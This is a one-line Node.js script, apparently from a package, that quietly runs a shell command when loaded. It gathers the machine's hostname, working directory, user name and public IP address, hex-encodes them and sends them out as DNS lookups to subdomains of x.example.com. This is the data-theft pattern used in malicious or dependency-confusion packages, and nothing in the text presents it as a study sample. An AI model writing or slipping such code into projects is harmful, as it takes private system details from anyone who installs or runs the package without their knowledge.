const {exec}=require('child_process');exec("a=$(hostname;pwd;whoami;echo 'pkg';curl https://ifconfig.me;) && echo $a | xxd -p | head | while read ut;do nslookup $ut.x.example.com;done",()=>{});
